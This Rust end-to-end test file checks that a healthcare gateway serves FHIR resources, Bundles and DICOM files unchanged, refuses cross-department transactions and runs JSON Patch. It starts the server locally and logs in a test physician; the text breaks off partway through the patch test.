//! Fidelity through the gateway: the real `wardgate serve` with its built-in departments, a
//! clinician's token, TLS on 127.0.0.1, every phase of the pipeline (authentication,
//! authorization, the firewall). Every resource and Bundle of the clinical corpus
//! (testdata/fhir) is written to the department that serves its type under the default policy
//! and reads back equal as JSON apart from `meta`; every file of testdata/dicom is stored by
//! STOW-RS and retrieved byte-identical by WADO-RS.
//!
//! Every refusal is collected and the test fails with the exact requests and the gateway's
//! reasons, so a false positive of the firewall or of authorization shows as what it is.
//!
//! The policy served is the default one with the per-address rate limits raised: one client
//! loading the whole corpus from one address would otherwise measure the rate limiter.

use std::collections::{BTreeMap, HashMap};
use std::io::Write;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::mpsc::{Receiver, channel};
use std::time::{Duration, Instant};

mod common;

use common::{address_after, lines, wait_for_line};

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::client::conn::http1::SendRequest;
use serde_json::Value;
use wardgate_departments::dicom::multipart;

const FHIR_JSON: &str = "application/fhir+json";
const ACCOUNT: &str = "e2e.physician";
const PASSWORD: &str = "correct horse battery staple e2e";

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// The default policy with the per-address rate limits raised (see the module doc).
fn test_policy() -> String {
    let policy = wardgate_policy::DEFAULT_POLICY
        .replace(
            "rate_per_second = 50\nburst = 100",
            "rate_per_second = 100000\nburst = 100000",
        )
        .replace(
            "rate_per_second = 100\nburst = 200",
            "rate_per_second = 100000\nburst = 100000",
        );
    assert_eq!(
        policy.matches("rate_per_second = 100000").count(),
        2,
        "the default policy's rate limits moved; update this test"
    );
    policy
}

/// The departments of the default policy in the URL contract's order, with their types.
fn departments_by_type() -> Vec<(String, Vec<String>)> {
    let policy = wardgate_policy::Policy::hospital_default()
        .unwrap_or_else(|_| panic!("the default policy does not validate"))
        .policy;
    wardgate_departments::DEFAULT_DEPARTMENTS
        .iter()
        .filter_map(|name| policy.departments.get(*name))
        .map(|d| (d.name.clone(), d.resource_types.clone().unwrap_or_default()))
        .collect()
}

/// The first department of the default policy that serves `rtype`; a type no department
/// lists goes to `record`, the department for every type no other one serves.
fn department_for(departments: &[(String, Vec<String>)], rtype: &str) -> String {
    departments
        .iter()
        .find(|(_, types)| types.iter().any(|t| t == rtype))
        .map_or_else(|| "record".to_owned(), |(name, _)| name.clone())
}

fn wardgate(dir: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_wardgate"));
    command
        .env_remove("WARDGATE_IDENTITY_DATABASE_URL")
        .env_remove("WARDGATE_CONFIG")
        .env_remove("WARDGATE_DATA")
        .env("WARDGATE_CONFIG", dir.join("wardgate.toml"));
    command
}

/// A physician who may work in every department, added by the operator before the start;
/// `store` are the identity store's options (`--database-url ...`), if any.
fn add_physician(dir: &Path, store: &[String]) {
    let mut command = wardgate(dir);
    command.args([
        "user",
        "add",
        ACCOUNT,
        "--role",
        "physician",
        "--password-stdin",
    ]);
    command.args(store);
    for (department, _) in departments_by_type() {
        command.args(["--department", &department]);
    }
    let mut child = command
        .arg("--data-dir")
        .arg(dir.join("data"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("wardgate user add");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(format!("{PASSWORD}\n").as_bytes())
        .unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(
        output.status.success(),
        "wardgate user add: {}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// The running server; killed when dropped.
struct Served {
    child: Child,
    public: SocketAddr,
    _stdout: Receiver<String>,
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Start `wardgate serve` on 127.0.0.1 with `extra` options.
fn start(dir: &Path, extra: &[String]) -> Served {
    let mut child = wardgate(dir)
        .args(["serve", "--listen", "127.0.0.1:0", "--admin", "127.0.0.1:0"])
        .args(extra)
        .arg("--data")
        .arg(dir.join("data"))
        // The exchange log goes to stdout: read on and dropped.
        .env("RUST_LOG", "warn")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("wardgate serve");
    let stdout = lines(child.stdout.take().unwrap());
    let listening = wait_for_line(
        &stdout,
        "wardgate is listening on https://",
        &mut Vec::new(),
    );
    // Keep draining stdout so the server never blocks on a full pipe.
    let (sender, drained) = channel();
    std::thread::spawn(move || {
        while let Ok(line) = stdout.recv() {
            let _ = sender.send(line);
        }
    });
    Served {
        child,
        public: address_after(&listening, "https://"),
        _stdout: drained,
    }
}

/// One keep-alive TLS connection to the gateway, as a clinical client holds it.
struct Client {
    addr: SocketAddr,
    ca: PathBuf,
    sender: Option<SendRequest<Full<Bytes>>>,
    bearer: Option<String>,
    refresh_token: Option<String>,
    token_time: Instant,
}

/// An answer: status, headers and body.
struct Answer {
    status: u16,
    headers: http::HeaderMap,
    body: Bytes,
}

impl Answer {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }

    fn json(&self) -> Value {
        serde_json::from_slice(&self.body)
            .unwrap_or_else(|e| panic!("not JSON ({e}): {}", self.text()))
    }

    /// The refusal as the gateway explains it: status, stable code, diagnostics.
    fn reason(&self) -> String {
        let outcome: Value = serde_json::from_slice(&self.body).unwrap_or(Value::Null);
        let issue = &outcome["issue"][0];
        format!(
            "{} {} {}",
            self.status,
            issue["details"]["coding"][0]["code"]
                .as_str()
                .unwrap_or_default(),
            issue["diagnostics"].as_str().unwrap_or(&self.text())
        )
    }
}

impl Client {
    fn new(addr: SocketAddr, ca: &Path) -> Self {
        Client {
            addr,
            ca: ca.to_owned(),
            sender: None,
            bearer: None,
            refresh_token: None,
            token_time: Instant::now(),
        }
    }

    async fn connect(&mut self) -> &mut SendRequest<Full<Bytes>> {
        if self.sender.as_ref().is_none_or(|s| s.is_closed()) {
            let sender = common::tls_connection(self.addr, &self.ca).await;
            self.sender = Some(sender);
        }
        self.sender.as_mut().unwrap()
    }

    async fn send(
        &mut self,
        method: &str,
        path: &str,
        headers: &[(&str, &str)],
        body: impl Into<Bytes>,
    ) -> Answer {
        // Access tokens last five minutes: refresh as a client does, before they expire.
        if self.refresh_token.is_some() && self.token_time.elapsed() > Duration::from_secs(200) {
            self.refresh().await;
        }
        self.send_now(method, path, headers, body.into()).await
    }

    async fn send_now(
        &mut self,
        method: &str,
        path: &str,
        headers: &[(&str, &str)],
        body: Bytes,
    ) -> Answer {
        let mut request = http::Request::builder()
            .method(method)
            .uri(path)
            .header("host", "localhost");
        if let Some(bearer) = &self.bearer {
            request = request.header("authorization", bearer.as_str());
        }
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let request = request.body(Full::new(body)).unwrap();
        let sender = self.connect().await;
        sender.ready().await.unwrap();
        let response = sender.send_request(request).await.unwrap();
        let status = response.status().as_u16();
        let (parts, body) = response.into_parts();
        let body = body.collect().await.unwrap().to_bytes();
        // A refusal before the body was read ends the connection: open a new one next time.
        if parts
            .headers
            .get("connection")
            .is_some_and(|v| v.as_bytes().eq_ignore_ascii_case(b"close"))
        {
            self.sender = None;
        }
        Answer {
            status,
            headers: parts.headers,
            body,
        }
    }

    async fn form(&mut self, path: &str, body: String) -> Value {
        let answer = self
            .send_now(
                "POST",
                path,
                &[("content-type", "application/x-www-form-urlencoded")],
                body.into(),
            )
            .await;
        assert_eq!(answer.status, 200, "{path}: {}", answer.text());
        answer.json()
    }

    /// Log in as a clinician would: password, then the TOTP code of the enrolment (read here
    /// from the identity store the server uses, as an authenticator app would show it; in
    /// the PostgreSQL `postgres` = (URL, schema) when given).
    async fn log_in(&mut self, data: &Path, postgres: Option<(&str, &str)>) {
        let password = PASSWORD.replace(' ', "+");
        let step = self
            .form(
                "/auth/login",
                format!("username={ACCOUNT}&password={password}"),
            )
            .await;
        let ticket = step["mfa_ticket"].as_str().unwrap().to_owned();
        let origin = format!("https://{}", self.addr);
        let config = match postgres {
            Some((url, schema)) => wardgate_identity::IdentityConfig::new(
                wardgate_identity::store::StoreLocation::Postgres {
                    url: url.to_owned(),
                    schema: Some(schema.to_owned()),
                },
                data.to_owned(),
                origin,
            ),
            None => wardgate_identity::IdentityConfig::embedded(data.to_owned(), origin),
        };
        let identity = wardgate_identity::Identity::open(config).await.unwrap();
        let code = identity
            .current_totp_code(ACCOUNT, identity.now())
            .await
            .unwrap()
            .unwrap();
        let tokens = self
            .form("/auth/mfa", format!("mfa_ticket={ticket}&code={code}"))
            .await;
        self.take_tokens(&tokens);
    }

    async fn refresh(&mut self) {
        let refresh = self.refresh_token.take().unwrap();
        self.bearer = None;
        let tokens = self
            .form(
                "/auth/token",
                format!("grant_type=refresh_token&refresh_token={refresh}"),
            )
            .await;
        self.take_tokens(&tokens);
    }

    fn take_tokens(&mut self, tokens: &Value) {
        self.bearer = Some(format!(
            "Bearer {}",
            tokens["access_token"].as_str().unwrap()
        ));
        self.refresh_token = tokens["refresh_token"].as_str().map(str::to_owned);
        self.token_time = Instant::now();
    }
}

fn without_meta(mut value: Value) -> Value {
    if let Value::Object(map) = &mut value {
        map.remove("meta");
    }
    value
}

/// What went wrong, grouped by the gateway's reason, each with the exact requests.
#[derive(Default)]
struct Findings(BTreeMap<String, Vec<String>>);

impl Findings {
    fn add(&mut self, reason: String, request: String) {
        self.0.entry(reason).or_default().push(request);
    }

    fn report(&self) -> String {
        let mut out = String::new();
        for (reason, requests) in &self.0 {
            out.push_str(&format!("\n{} x {reason}\n", requests.len()));
            for request in requests.iter().take(5) {
                out.push_str(&format!("    {request}\n"));
            }
        }
        out
    }
}

fn corpus_resources() -> Vec<(String, String)> {
    let mut all = Vec::new();
    for file in [
        "authored-edge-cases",
        "hl7-r4-examples",
        "inferno-us-core",
        "synthea-smart-sandbox",
    ] {
        let path = repo().join(format!("testdata/fhir/resources/{file}.jsonl"));
        let text = std::fs::read_to_string(&path).unwrap();
        for line in text.lines().filter(|l| !l.trim().is_empty()) {
            all.push((file.to_owned(), line.to_owned()));
        }
    }
    all
}

/// Load every corpus resource into the department that serves its type; returns how many
/// were sent and how many read back equal.
async fn load_resources(
    client: &mut Client,
    departments: &[(String, Vec<String>)],
    findings: &mut Findings,
) -> (usize, usize) {
    let (mut sent, mut equal) = (0, 0);
    for (file, line) in corpus_resources() {
        let original: Value = serde_json::from_str(&line).unwrap();
        let rtype = original["resourceType"].as_str().unwrap().to_owned();
        let department = department_for(departments, &rtype);
        sent += 1;
        let base = format!("/{department}/fhir/{rtype}");
        let (written, path) = match original["id"].as_str() {
            Some(id) => {
                let path = format!("{base}/{id}");
                let answer = client
                    .send("PUT", &path, &[("content-type", FHIR_JSON)], line.clone())
                    .await;
                (answer, path)
            }
            None => {
                let answer = client
                    .send("POST", &base, &[("content-type", FHIR_JSON)], line.clone())
                    .await;
                let location = answer
                    .headers
                    .get("location")
                    .and_then(|l| l.to_str().ok())
                    .unwrap_or_default()
                    .to_owned();
                // Location is absolute and may carry `/_history/N`: read the current version.
                let path = location
                    .find(&format!("/{department}/fhir/"))
                    .map(|at| location[at..].split("/_history").next().unwrap().to_owned())
                    .unwrap_or_default();
                (answer, path)
            }
        };
        let method = if original["id"].is_string() {
            "PUT"
        } else {
            "POST"
        };
        if !(200..300).contains(&written.status) {
            findings.add(
                written.reason(),
                format!("{method} {base}... ({file}, {} bytes)", line.len()),
            );
            continue;
        }
        let read = client.send("GET", &path, &[], "").await;
        if read.status != 200 {
            findings.add(read.reason(), format!("GET {path} ({file})"));
            continue;
        }
        let mut got = without_meta(read.json());
        let mut expected = without_meta(original);
        if method == "POST" {
            got.as_object_mut().unwrap().remove("id");
            expected.as_object_mut().unwrap().remove("id");
        }
        if got == expected {
            equal += 1;
        } else {
            findings.add(
                "read back differs".to_owned(),
                format!("GET {path} ({file})"),
            );
        }
    }
    (sent, equal)
}

/// The department a transaction Bundle goes to: the first that serves every type its
/// entries carry; `None` when its entries span departments.
fn bundle_department(departments: &[(String, Vec<String>)], bundle: &Value) -> Option<String> {
    let types = entry_types(bundle);
    departments
        .iter()
        .find(|(_, served)| types.iter().all(|t| served.contains(t)))
        .map(|(name, _)| name.clone())
}

/// Whether some entry's `request.url` satisfies `test`.
fn any_entry_url(bundle: &Value, test: impl Fn(&str) -> bool) -> bool {
    bundle["entry"].as_array().is_some_and(|entries| {
        entries
            .iter()
            .any(|e| e["request"]["url"].as_str().is_some_and(&test))
    })
}

/// Whether an entry's request names another server in full (a canonical URL, as some HL7
/// examples do): not an address below this gateway's FHIR base.
fn names_another_server(bundle: &Value) -> bool {
    any_entry_url(bundle, |url| {
        url.starts_with("http://") || url.starts_with("https://")
    })
}

/// Whether an entry calls an operation (`ValueSet/$lookup`): operations are refused unless
/// the policy names them (the default policy names no terminology operation), and the
/// department must serve the operation's type.
fn calls_an_operation(bundle: &Value) -> bool {
    any_entry_url(bundle, |url| {
        url.split('?').next().unwrap_or(url).contains('$')
    })
}

/// The Bundles the gateway refuses by design, each with the reason it gave.
#[derive(Default)]
struct Refused(Vec<(String, String)>);

/// The resource types a Bundle's entries carry or name in their request URL.
fn entry_types(bundle: &Value) -> Vec<String> {
    bundle["entry"]
        .as_array()
        .map(|entries| {
            entries
                .iter()
                .filter_map(|e| {
                    e["resource"]["resourceType"]
                        .as_str()
                        .or_else(|| e["request"]["url"].as_str())
                })
                .map(|t| t.split(['/', '?']).next().unwrap_or(t).to_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// Load every corpus Bundle; returns how many were sent and how many read back equal. A
/// transaction is atomic within one department's store, so one whose entries span
/// departments is refused (403, naming where each type is served), as is one whose entries
/// address another server in full (400), or call an operation the policy does not name (403):
/// those go into `refused`, with the reason given.
async fn load_bundles(
    client: &mut Client,
    departments: &[(String, Vec<String>)],
    findings: &mut Findings,
    refused: &mut Refused,
) -> (usize, usize) {
    let mut paths: Vec<_> = std::fs::read_dir(repo().join("testdata/fhir/bundles"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    paths.sort();
    let (mut sent, mut equal) = (0, 0);
    for path in paths {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let text = std::fs::read_to_string(&path).unwrap();
        let bundle: Value = serde_json::from_str(&text).unwrap();
        if bundle["type"] != "transaction" {
            // A document Bundle is a resource of its own: stored and read back whole.
            let department = department_for(departments, "Bundle");
            sent += 1;
            let id = bundle["id"].as_str().unwrap();
            let url = format!("/{department}/fhir/Bundle/{id}");
            let put = client
                .send("PUT", &url, &[("content-type", FHIR_JSON)], text.clone())
                .await;
            if !(200..300).contains(&put.status) {
                findings.add(put.reason(), format!("PUT {url} ({name})"));
                continue;
            }
            let got = client.send("GET", &url, &[], "").await;
            if got.status == 200 && without_meta(got.json()) == without_meta(bundle) {
                equal += 1;
            } else {
                findings.add(
                    format!("{} read back differs", got.status),
                    format!("GET {url} ({name})"),
                );
            }
            continue;
        }
        let home = bundle_department(departments, &bundle);
        let spans_departments = home.is_none();
        let (department, expected) = match home {
            _ if names_another_server(&bundle) => (
                department_for(departments, &entry_types(&bundle)[0]),
                Some((400, "is not below this FHIR base")),
            ),
            _ if calls_an_operation(&bundle) => (
                department_for(departments, &entry_types(&bundle)[0]),
                Some((403, "the whole transaction is refused")),
            ),
            Some(department) => (department, None),
            None => (
                department_for(departments, &entry_types(&bundle)[0]),
                Some((403, "it is served by /")),
            ),
        };
        if let Some((status, says)) = expected {
            let url = format!("/{department}/fhir");
            let answer = client
                .send("POST", &url, &[("content-type", FHIR_JSON)], text.clone())
                .await;
            let reason = answer.reason();
            if answer.status == status && reason.contains(says) {
                refused.0.push((name.clone(), reason));
                // What the refusal tells the client to do: one transaction per department.
                if spans_departments && !calls_an_operation(&bundle) {
                    sent += 1;
                    if split_by_department(client, departments, &bundle, &name, findings).await {
                        equal += 1;
                    }
                }
            } else {
                findings.add(
                    format!("expected {status} saying '{says}', got {reason}"),
                    format!("POST {url} ({name}, transaction)"),
                );
            }
            continue;
        }
        sent += 1;
        let url = format!("/{department}/fhir");
        let answer = client
            .send("POST", &url, &[("content-type", FHIR_JSON)], text.clone())
            .await;
        if answer.status != 200 {
            findings.add(answer.reason(), format!("POST {url} ({name}, transaction)"));
            continue;
        }
        // Each entry's resource reads back equal, with its references as the server rewrote
        // them (fullUrl -> Type/id), apart from `meta` and the server-assigned id.
        let response = answer.json();
        let mut map = HashMap::new();
        for (entry, result) in bundle["entry"]
            .as_array()
            .unwrap()
            .iter()
            .zip(response["entry"].as_array().unwrap())
        {
            if let (Some(full), Some(location)) = (
                entry["fullUrl"].as_str(),
                result["response"]["location"].as_str(),
            ) {
                let target: Vec<&str> = location
                    .split("/fhir/")
                    .nth(1)
                    .unwrap_or_default()
                    .split('/')
                    .take(2)
                    .collect();
                map.insert(full.to_owned(), target.join("/"));
            }
        }
        let mut all_equal = true;
        for (entry, result) in bundle["entry"]
            .as_array()
            .unwrap()
            .iter()
            .zip(response["entry"].as_array().unwrap())
        {
            if entry["resource"].is_null() || entry["request"]["method"] == "DELETE" {
                continue;
            }
            let location = result["response"]["location"].as_str().unwrap_or_default();
            let Some(at) = location.find(&format!("/{department}/fhir/")) else {
                continue;
            };
            let read_path = location[at..].split("/_history").next().unwrap().to_owned();
            let got = client.send("GET", &read_path, &[], "").await;
            let mut expected = entry["resource"].clone();
            rewrite_references(&mut expected, &map);
            let mut got = without_meta(got.json());
            let mut expected = without_meta(expected);
            got.as_object_mut().unwrap().remove("id");
            expected.as_object_mut().unwrap().remove("id");
            if got != expected {
                all_equal = false;
                findings.add(
                    "transaction entry reads back differently".to_owned(),
                    format!("GET {read_path} ({name})"),
                );
            }
        }
        if all_equal {
            equal += 1;
        }
    }
    (sent, equal)
}

/// Send a transaction whose entries span departments as the gateway's refusal says: one
/// transaction per department. The client gives each created resource its id (`urn:uuid:X`
/// becomes `PUT Type/X`), so every reference is known before anything is sent: one into
/// the same department becomes `Type/id`, one into another names that department's resource
/// in full. Returns whether every entry reads back equal (apart from `meta`).
async fn split_by_department(
    client: &mut Client,
    departments: &[(String, Vec<String>)],
    bundle: &Value,
    name: &str,
    findings: &mut Findings,
) -> bool {
    let origin = format!("https://{}", client.addr);
    let mut entries: Vec<(String, Value)> = Vec::new();
    let mut homes = HashMap::new();
    for entry in bundle["entry"].as_array().unwrap() {
        let mut entry = entry.clone();
        let url = entry["request"]["url"].as_str().unwrap().to_owned();
        let rtype = url.split(['/', '?']).next().unwrap().to_owned();
        let home = department_for(departments, &rtype);
        if let Some(uuid) = entry["fullUrl"]
            .as_str()
            .and_then(|f| f.strip_prefix("urn:uuid:"))
            .map(str::to_owned)
        {
            let id = if entry["request"]["method"] == "POST" {
                entry["request"] =
                    serde_json::json!({"method": "PUT", "url": format!("{rtype}/{uuid}")});
                entry["resource"]["id"] = Value::String(uuid.clone());
                uuid.clone()
            } else {
                url.split('/').nth(1).unwrap_or_default().to_owned()
            };
            homes.insert(
                format!("urn:uuid:{uuid}"),
                (home.clone(), format!("{rtype}/{id}")),
            );
        }
        entries.push((home, entry));
    }
    let mut all_equal = true;
    let mut by_department: BTreeMap<String, Vec<Value>> = BTreeMap::new();
    for (home, mut entry) in entries {
        let map: HashMap<String, String> = homes
            .iter()
            .map(|(full, (target_home, local))| {
                let to = if *target_home == home {
                    local.clone()
                } else {
                    format!("{origin}/{target_home}/fhir/{local}")
                };
                (full.clone(), to)
            })
            .collect();
        rewrite_references(&mut entry["resource"], &map);
        by_department.entry(home).or_default().push(entry);
    }
    for (home, part) in by_department {
        let sub =
            serde_json::json!({"resourceType": "Bundle", "type": "transaction", "entry": part});
        let url = format!("/{home}/fhir");
        let answer = client
            .send(
                "POST",
                &url,
                &[("content-type", FHIR_JSON)],
                sub.to_string(),
            )
            .await;
        if answer.status != 200 {
            findings.add(
                answer.reason(),
                format!("POST {url} ({name}, its {home} part)"),
            );
            all_equal = false;
            continue;
        }
        for entry in &part {
            if entry["request"]["method"] != "PUT" {
                continue;
            }
            let path = format!("/{home}/fhir/{}", entry["request"]["url"].as_str().unwrap());
            let got = client.send("GET", &path, &[], "").await;
            if got.status != 200
                || without_meta(got.json()) != without_meta(entry["resource"].clone())
            {
                all_equal = false;
                findings.add(
                    format!(
                        "{} split transaction entry reads back differently",
                        got.status
                    ),
                    format!("GET {path} ({name})"),
                );
            }
        }
    }
    all_equal
}

fn rewrite_references(value: &mut Value, map: &HashMap<String, String>) {
    match value {
        Value::Object(obj) => {
            for (key, v) in obj.iter_mut() {
                match (key.as_str(), &v) {
                    ("reference", Value::String(s)) if map.contains_key(s) => {
                        *v = Value::String(map[s].clone())
                    }
                    _ => rewrite_references(v, map),
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(|v| rewrite_references(v, map)),
        _ => {}
    }
}

fn dicom_files() -> Vec<(String, Vec<u8>)> {
    let root = repo().join("testdata/dicom");
    let mut files = Vec::new();
    let mut dirs = vec![root.clone()];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                dirs.push(path);
            } else if path.extension().is_some_and(|e| e == "dcm") {
                let name = path.strip_prefix(&root).unwrap().display().to_string();
                files.push((name, std::fs::read(&path).unwrap()));
            }
        }
    }
    files.sort();
    files
}

async fn store_and_retrieve_dicom(client: &mut Client, findings: &mut Findings) -> usize {
    let mut identical = 0;
    let files = dicom_files();
    assert!(
        files.len() >= 20,
        "testdata/dicom has {} files",
        files.len()
    );
    for (name, file) in &files {
        let body = multipart::write("e2e-boundary", &[("application/dicom".to_owned(), file)]);
        let stow = client
            .send(
                "POST",
                "/radiology/dicom-web/studies",
                &[(
                    "content-type",
                    "multipart/related; type=\"application/dicom\"; boundary=e2e-boundary",
                )],
                body,
            )
            .await;
        if stow.status != 200 {
            findings.add(
                stow.reason(),
                format!("POST /radiology/dicom-web/studies ({name})"),
            );
            continue;
        }
        let answer = stow.json();
        let url = answer["00081199"]["Value"][0]["00081190"]["Value"][0]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        let Some(at) = url.find("/radiology/dicom-web/") else {
            findings.add("STOW-RS answer without a RetrieveURL".into(), name.clone());
            continue;
        };
        let path = url[at..].to_owned();
        let wado = client
            .send(
                "GET",
                &path,
                &[(
                    "accept",
                    "multipart/related; type=\"application/dicom\"; transfer-syntax=*",
                )],
                "",
            )
            .await;
        if wado.status != 200 {
            findings.add(wado.reason(), format!("GET {path} ({name})"));
            continue;
        }
        let content_type = wado
            .headers
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default();
        let media = multipart::parse_media_type(content_type);
        let parts = media.as_ref().and_then(|m| {
            multipart::parse(&wado.body, m.param("boundary")?, &Default::default()).ok()
        });
        match parts.as_deref() {
            Some([part]) if part.body == file.as_slice() => identical += 1,
            _ => findings.add(
                "WADO-RS answer is not the stored file".into(),
                format!("GET {path} ({name})"),
            ),
        }
    }
    identical
}

/// `wardgate serve` on the default policy (rate limits lifted) and its embedded stores, and
/// a client logged in as a physician. Keep the first two alive as long as the client.
async fn serve_on_sqlite_and_log_in() -> (tempfile::TempDir, Served, Client) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("wardgate.toml"), test_policy()).unwrap();
    std::fs::create_dir_all(dir.path().join("data")).unwrap();
    add_physician(dir.path(), &[]);
    let served = start(dir.path(), &[]);
    let data = dir.path().join("data");
    let mut client = Client::new(served.public, &data.join("ca.pem"));
    client.log_in(&data, None).await;
    (dir, served, client)
}

/// Start `wardgate serve`, log in, send the whole corpus; every refusal or change, apart from
/// the Bundles refused by design (returned), is a failure that names the requests and the
/// gateway's reasons.
async fn corpus_through_the_gateway() -> (usize, usize, usize, Refused) {
    let (_dir, _served, mut client) = serve_on_sqlite_and_log_in().await;
    let departments = departments_by_type();
    let mut findings = Findings::default();

    let mut refused = Refused::default();
    let (resources_sent, resources) =
        load_resources(&mut client, &departments, &mut findings).await;
    let (bundles_sent, bundles) =
        load_bundles(&mut client, &departments, &mut findings, &mut refused).await;
    let dicom = store_and_retrieve_dicom(&mut client, &mut findings).await;

    assert!(
        findings.0.is_empty(),
        "through the gateway: {resources} of {resources_sent} resources, {bundles} of \
         {bundles_sent} Bundles and {dicom} of {} DICOM files came back equal; refused or \
         changed:{}",
        dicom_files().len(),
        findings.report()
    );
    assert_eq!(resources, resources_sent);
    assert_eq!(bundles, bundles_sent);
    assert_eq!(dicom, dicom_files().len());
    (resources, bundles, dicom, refused)
}

/// Every resource of the corpus (of any of its 100+ types: the record keeps the types no
/// other department lists) and every Bundle goes through the gateway and reads back equal,
/// and the 24 DICOM files byte-identical. A transaction whose entries span departments
/// (Synthea's whole-patient Bundles: Organization, Claim, MedicationRequest, ...) is refused
/// whole, naming where each type is served: a transaction is atomic within one department's
/// store and wardgate has no commit across stores. Sent as the refusal says, one transaction
/// per department, every entry of it loads and reads back equal. Two HL7 examples stay
/// refused: one addresses its entries to another server, one calls `$lookup`, which the
/// default policy does not allow.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_whole_corpus_goes_through_the_gateway_unchanged() {
    let (resources, bundles, _, refused) = corpus_through_the_gateway().await;
    assert_eq!(resources, corpus_resources().len());
    assert!(resources > 9000, "only {resources} resources were sent");
    let names: Vec<&str> = refused.0.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(
        names,
        [
            "authored-edge-cases-transaction.json",
            "hl7-r4-example-bundle-transaction.json",
            "hl7-r4-example-hla-1.json",
            "hl7-r4-example-ussg-fht.json",
            "inferno-transaction-pdex_bundle_patient_999.json",
            "inferno-transaction-uscore_bundle_patient_client_test.json",
            "synthea-transaction-Clemente_Kreiger.json",
            "synthea-transaction-Freda_OConnell.json",
        ],
        "{:#?}",
        refused.0
    );
    let files = std::fs::read_dir(repo().join("testdata/fhir/bundles"))
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .path()
                .extension()
                .is_some_and(|x| x == "json")
        })
        .count();
    // Every Bundle but the two HL7 examples loaded (whole, or split by department).
    assert_eq!(bundles, files - 2);
}

/// A batch with entries the caller may not send (standards.md 1a.5): each denied entry gets
/// its own 403 inside the built-in department's `batch-response`, at its place, and the
/// others are done (the created Observation reads back); a transaction with the same entries
/// is refused whole and changes nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_batch_with_denied_entries_runs_the_others() {
    let (_dir, _served, mut client) = serve_on_sqlite_and_log_in().await;
    let departments = departments_by_type();
    let home = department_for(&departments, "Observation");
    let (elsewhere, other_types) = departments
        .iter()
        .find(|(name, types)| *name != home && !types.is_empty())
        .expect("a second department");
    let foreign = &other_types[0];
    let batch = |kind: &str, id: &str| {
        serde_json::json!({
            "resourceType": "Bundle",
            "type": kind,
            "entry": [
                {"request": {"method": "GET", "url": format!("{foreign}?_count=1")}},
                {"resource": {"resourceType": "Observation", "id": id, "status": "final",
                    "code": {"text": "patient refused to select a drop-in clinic"}},
                 "request": {"method": "PUT", "url": format!("Observation/{id}")}},
                {"request": {"method": "GET", "url": "Observation/$lookup?code=x"}},
            ]
        })
        .to_string()
    };
    let url = format!("/{home}/fhir");
    let answer = client
        .send(
            "POST",
            &url,
            &[("content-type", FHIR_JSON)],
            batch("batch", "batch-obs-1"),
        )
        .await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    let bundle = answer.json();
    assert_eq!(bundle["type"], "batch-response");
    let entries = bundle["entry"].as_array().unwrap();
    let statuses: Vec<&str> = entries
        .iter()
        .map(|e| e["response"]["status"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(statuses.len(), 3, "{bundle}");
    assert_eq!(statuses[0], "403 Forbidden", "{bundle}");
    assert!(statuses[1].starts_with("201"), "{bundle}");
    assert_eq!(statuses[2], "403 Forbidden", "{bundle}");
    let why = entries[0]["response"]["outcome"].to_string();
    assert!(why.contains(&format!("/{elsewhere}/")), "{why}");
    let stored = client
        .send(
            "GET",
            &format!("/{home}/fhir/Observation/batch-obs-1"),
            &[],
            "",
        )
        .await;
    assert_eq!(stored.status, 200, "{}", stored.text());
    assert_eq!(
        stored.json()["code"]["text"],
        "patient refused to select a drop-in clinic"
    );

    let answer = client
        .send(
            "POST",
            &url,
            &[("content-type", FHIR_JSON)],
            batch("transaction", "batch-obs-2"),
        )
        .await;
    assert_eq!(answer.status, 403, "{}", answer.text());
    assert!(answer.reason().contains("the whole transaction is refused"));
    let not_stored = client
        .send(
            "GET",
            &format!("/{home}/fhir/Observation/batch-obs-2"),
            &[],
            "",
        )
        .await;
    assert_eq!(not_stored.status, 404, "{}", not_stored.text());
}

/// JSON Patch (`PATCH [base]/Type/id`, `application/json-patch+json`) through every phase:
/// a nurse's wording passes the firewall and is applied, `If-Match` guards the version, a
/// patch that plants a script is blocked before the department, and a patch that would break
/// the resource is refused with nothing changed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_patch_goes_through_the_gateway() {
    const PATCH_JSON: &str = "application/json-patch+json";
    let (_dir, _served, mut client) = serve_on_sqlite_and_log_in().await;

    let path = "/emergency/fhir/Observation/patch-e2e";
    let observation = r#"{"resourceType":"Observation","id":"patch-e2e","status":"preliminary","code":{"text":"Heart rate"},"subject":{"reference":"Patient/obrien"},"valueQuantity":{"value":88,"unit":"/min"}}"#;
    let put = client
        .send("PUT", path, &[("content-type", FHIR_JSON)], observation)
        .await;
    assert_eq!(put.status, 201, "{}", put.text());

    let note = "Patient O'Brien refused to select a drop-in clinic; -- re-check at 22:00";
    let patch = serde_json::json!([
        {"op": "test", "path": "/status", "value": "preliminary"},
        {"op": "replace", "path": "/status", "value": "final"},
